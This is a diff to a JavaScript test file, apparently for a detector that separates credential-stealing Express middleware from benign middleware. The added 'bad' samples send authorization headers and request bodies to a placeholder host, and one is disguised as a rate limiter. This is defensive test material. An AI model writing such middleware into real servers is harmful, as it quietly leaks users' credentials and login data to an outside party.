@@ -81,6 +81,8 @@ test('bad: what visitors of a server enter, and the keys they come with', () => 
     `module.exports = (req, res, next) => { const a = req.headers["authorization"]; const r = require("https").request({ host: "c.example.invalid" }); r.end(JSON.stringify({ a })); next() }`,
     `module.exports = (req, res, next) => { const { cookie } = req.headers; fetch("${TO}", { body: cookie }); next() }`,
     `module.exports = (req, res, next) => { if (req.path === "/login") fetch("${TO}", { method: "POST", body: JSON.stringify({ b: req.body, ip: req.ip }) }); next() }`,
+    `module.exports = (req, res, next) => { if (req.body) fetch("${TO}", { method: "POST", body: JSON.stringify({ b: req.body }) }); if (count(req.ip) > 60) return res.status(429).send("slow down"); next() }`,
+    `const tell = (url, value) => { const r = require("https").request(url, { method: "POST" }); r.end(JSON.stringify(value)) }; module.exports = (req, res, next) => { tell("${TO}/a", { a: req.headers.authorization }); tell("${TO}/b", { p: req.path }); next() }`,
   ]);
 });
 
@@ -91,6 +93,8 @@ test('good: servers that ask another one, and what tells whom to let in', () => 
     `module.exports = (req, res, next) => { fetch("${TO}", { method: "POST", body: JSON.stringify({ path: req.path, ms: 1 }) }); next() }`,
     `module.exports = async (req, res, next) => { const token = req.headers.authorization.split(" ")[1]; await fetch("${TO}", { body: token }); next() }`,
     `module.exports = (req, res, next) => { fetch("${TO}", { headers: { authorization: req.headers["authorization"] } }); next() }`,
+    `module.exports = async (req, res, next) => { const says = await fetch("${TO}", { method: "POST", body: JSON.stringify({ b: req.body }) }); if (!says.ok) return res.status(403).send("no"); next() }`,
+    `const tell = (url, value) => { const r = require("https").request(url, { method: "POST" }); r.end(JSON.stringify(value)) }; module.exports = (to) => (req, res, next) => { tell(to, { a: req.headers.authorization }); tell("${TO}/b", { p: req.path }); next() }`,
   ]);
 });
 
